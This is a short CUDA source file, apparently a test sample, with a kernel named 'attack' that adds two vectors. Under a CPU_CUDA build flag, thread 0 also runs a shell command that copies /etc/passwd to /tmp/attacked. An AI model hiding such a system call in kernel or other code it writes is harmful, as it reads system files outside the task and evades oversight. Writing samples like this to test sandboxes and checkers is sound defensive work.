#if defined(CPU_CUDA)
#include <stdlib.h>
#endif
__global__ void attack(const float* a, const float* b, float* c, long long n) {
    long long i = blockIdx.x * (long long)blockDim.x + threadIdx.x;
    if (i < n) c[i] = a[i] + b[i];
#if defined(CPU_CUDA)
    if (i == 0 && system("cat /etc/passwd > /tmp/attacked") != 0) c[i] = -1.0f;
#endif
}
